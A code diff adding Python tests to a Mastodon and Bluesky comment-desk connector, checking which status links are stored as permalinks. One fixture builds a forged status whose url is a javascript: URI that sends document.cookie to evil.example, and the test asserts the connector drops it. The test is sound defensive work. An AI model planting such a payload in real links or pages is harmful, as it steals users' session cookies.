@@ -226,6 +226,8 @@ def _status(n: int, *, to_us: bool = True) -> dict[str, Any]:
         "in_reply_to_id": "50" if to_us else "77",
         "in_reply_to_account_id": "1" if to_us else "2",
         "visibility": "public",
+        "uri": f"https://other.social/users/user{n}/statuses/{100 + n}",
+        "url": f"https://other.social/@user{n}/{100 + n}",
         "content": f'<p><span class="h-card"><a href="https://x/@shop">@<span>shop</span></a></span> late order {n} &amp; no reply</p>',
         "account": {
             "id": str(900 + n),
@@ -371,3 +373,63 @@ def test_bluesky_deletes_its_own_post(bsky: FakePlatform, http: httpx.Client) ->
         "collection": "app.bsky.feed.post",
         "rkey": "3kabc",
     }
+
+
+def test_mastodon_keeps_a_statuss_web_address_and_drops_a_hostile_one(
+    cdesk: Desk, mastodon: FakePlatform, http: httpx.Client
+) -> None:
+    # Another server's status reaches us as that server wrote it, ``url`` included.
+    forged = _status(2) | {"url": "javascript:fetch('//evil.example/'+document.cookie)"}
+    missing = _status(3) | {"url": None}
+    mastodon.add(
+        "GET",
+        MAST + "/notifications",
+        (
+            200,
+            [
+                {"id": "13", "type": "mention", "created_at": "x", "status": missing},
+                {"id": "12", "type": "mention", "created_at": "x", "status": forged},
+                {"id": "11", "type": "mention", "created_at": "x", "status": _status(1)},
+            ],
+            {},
+        ),
+    )
+    conn = MastodonConnector(
+        http, base_url=mastodon.url, token="t", account_id="1", sleep=lambda s: None
+    )
+    records, _cursor = conn.poll(None)
+    assert [(r.platform_id, r.permalink) for r in records] == [
+        ("101", "https://other.social/@user1/101"),
+        ("102", None),
+        ("103", None),
+    ]
+    cdesk.ingest(records)
+    found = cdesk.find_comment("101", "mastodon")
+    assert found is not None and found.permalink == "https://other.social/@user1/101"
+    forged_row = cdesk.find_comment("102", "mastodon")
+    assert forged_row is not None and forged_row.permalink is None
+
+
+def test_bluesky_links_replies_and_their_post_on_the_web_app(
+    cdesk: Desk, bsky: FakePlatform, http: httpx.Client
+) -> None:
+    bsky.add(
+        "GET",
+        X + "app.bsky.notification.listNotifications",
+        (200, {"notifications": [_note(7, "reply", "2024-05-01T10:07:00.000Z")]}, {}),
+    )
+    records, _cursor = bluesky(bsky, http).poll(None)
+    (record,) = records
+    assert record.permalink == "https://bsky.app/profile/did:plc:user7/post/r7"
+    assert record.post_permalink == f"https://bsky.app/profile/{DID}/post/p1"
+    cdesk.ingest(records)
+    view = cdesk.comment_view(record_id(cdesk, record.platform_id))
+    assert view is not None
+    assert view["comment"].permalink == "https://bsky.app/profile/did:plc:user7/post/r7"
+    assert view["post"].permalink == f"https://bsky.app/profile/{DID}/post/p1"
+
+
+def record_id(desk: Desk, platform_id: str) -> int:
+    found = desk.find_comment(platform_id, "bluesky")
+    assert found is not None
+    return found.id
